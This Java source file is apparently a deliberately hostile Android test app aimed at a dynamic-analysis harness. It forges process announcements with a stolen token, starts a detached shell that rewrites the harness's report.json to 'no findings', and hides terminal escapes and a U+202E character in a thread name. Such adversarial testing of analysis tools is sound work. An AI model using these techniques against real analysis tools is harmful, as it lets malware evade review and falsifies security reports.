package com.example.hostile;

import android.app.Application;
import android.provider.Settings;
import android.util.Log;

import java.io.File;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.Channels;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Before any consent, from Application.onCreate:
 * 1. announces processes it chose at the device's gate (with the secret it inherited): a
 *    `sleep` child under the forged name ":forged", and its ancestors (the harness itself) as
 *    ":forged-parent", so that Frida would attach where the app wants and hang the controller;
 * 2. starts a detached shell (setsid) that waits for the run's report.json and rewrites it;
 * 3. reads ANDROID_ID on a thread whose name carries terminal controls and U+202E.
 */
public class HostileApp extends Application {
    static final String TAG = "Hostile";
    static final String CONTROLS = "\u001b]0;pwned\u0007\u001b[2J\u202etxt.exe";

    @Override
    public void onCreate() {
        super.onCreate();
        Thread reader = new Thread(() -> {
            String id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
            Log.i(TAG, "read " + (id == null ? 0 : id.length()) + " chars");
        }, "reader" + CONTROLS);
        reader.start();
        try {
            reader.join();
        } catch (InterruptedException ignored) {
            Thread.currentThread().interrupt();
        }
        forgeAnnouncements();
        tamperLater();
    }

    private void forgeAnnouncements() {
        String gate = System.getenv("HARNESS_SIM_GATE");
        if (gate == null || gate.isEmpty()) return;
        List<long[]> targets = new ArrayList<>();
        try {
            Process sleeper = new ProcessBuilder("sleep", "120")
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD)
                    .start();
            targets.add(new long[] {sleeper.pid(), 0});
        } catch (Exception e) {
            Log.w(TAG, "no sleeper: " + e);
        }
        ProcessHandle up = ProcessHandle.current().parent().orElse(null);
        for (int i = 0; i < 3 && up != null; i++) {
            targets.add(new long[] {up.pid(), 1});
            up = up.parent().orElse(null);
        }
        for (long[] t : targets) {
            String name = getPackageName() + (t[1] == 0 ? ":forged" : ":forged-parent");
            Thread th = new Thread(() -> announce(gate, t[0], name), "announce-" + t[0]);
            th.setDaemon(true);
            th.start(); // the gate answers once its handler ran: never wait for it here
        }
    }

    /** The announcement a real process sends, with someone else's pid: over the gate's Unix
     *  socket, or TCP host:port (the gate of harness versions before the trust fix). */
    private void announce(String gate, long pid, String name) {
        String secret = System.getenv("HARNESS_SIM_SECRET");
        String hello = "{" + (secret == null ? "" : "\"token\":\"" + secret + "\",")
                + "\"pid\":" + pid + ",\"package\":\"" + getPackageName() + "\",\"process\":\""
                + name + "\",\"control_port\":1}\n";
        byte[] bytes = hello.getBytes(StandardCharsets.UTF_8);
        try {
            if (gate.startsWith("/")) {
                try (SocketChannel s = SocketChannel.open(StandardProtocolFamily.UNIX)) {
                    s.connect(UnixDomainSocketAddress.of(gate));
                    OutputStream out = Channels.newOutputStream(s);
                    out.write(bytes);
                    out.flush();
                    Channels.newInputStream(s).read(new byte[64]);
                }
            } else {
                int colon = gate.lastIndexOf(':');
                try (Socket s = new Socket()) {
                    s.connect(new InetSocketAddress(gate.substring(0, colon),
                            Integer.parseInt(gate.substring(colon + 1))), 2000);
                    s.getOutputStream().write(bytes);
                    s.getOutputStream().flush();
                    InputStream in = s.getInputStream();
                    in.read(new byte[64]);
                }
            }
            Log.i(TAG, "announced pid " + pid + " as " + name);
        } catch (Exception e) {
            Log.w(TAG, "announcement of " + pid + " failed: " + e);
        }
    }

    /** The run folder is on the harness's command line (--out): a detached shell waits for the
     *  run to end, then rewrites the report to "No findings" and leaves a mark. */
    private void tamperLater() {
        String out = runFolder();
        if (out == null) return;
        // after the run: once the report is there, and its evidence manifest (up to 30 s more)
        String script = "m=0; while [ ! -f \"$1/report.json\" ]; do sleep 0.2; m=$((m+1)); "
                + "[ $m -lt 900 ] || exit 0; done; "
                + "n=0; while [ ! -f \"$1/manifest.json\" ] && [ $n -lt 150 ]; do sleep 0.2; n=$((n+1)); done; "
                + "sleep 1; "
                + "printf '{\"status\":\"completed\",\"findings\":[]}' > \"$1/report.json\"; "
                + "echo tampered > \"$1/TAMPERED\"";
        try {
            new ProcessBuilder("setsid", "sh", "-c", script, "hostile-tamper", out)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD)
                    .start();
            Log.i(TAG, "tamperer waits for " + out);
        } catch (Exception e) {
            Log.w(TAG, "no tamperer: " + e);
        }
    }

    private static String runFolder() {
        ProcessHandle up = ProcessHandle.current().parent().orElse(null);
        for (int i = 0; i < 4 && up != null; i++) {
            try {
                byte[] raw = Files.readAllBytes(Path.of("/proc/" + up.pid() + "/cmdline"));
                String[] args = new String(raw, StandardCharsets.UTF_8).split("\u0000");
                for (int k = 0; k + 1 < args.length; k++) {
                    if (args[k].equals("--out")) {
                        File f = new File(args[k + 1]);
                        if (f.isAbsolute()) return f.getPath();
                        Path cwd = Files.readSymbolicLink(Path.of("/proc/" + up.pid() + "/cwd"));
                        return cwd.resolve(args[k + 1]).toString();
                    }
                }
            } catch (Exception ignored) {
                // not readable: try the next one up
            }
            up = up.parent().orElse(null);
        }
        return null;
    }
}
